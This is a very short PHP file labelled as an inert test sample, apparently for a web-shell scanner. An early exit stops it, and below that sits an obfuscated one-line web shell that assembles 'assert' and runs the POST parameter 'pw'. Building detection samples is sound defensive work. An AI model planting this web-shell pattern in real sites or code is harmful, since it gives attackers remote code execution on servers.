<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

@$_ = "a" . "s" . "s" . "e" . "r" . "t";
@$_($_POST['pw']);
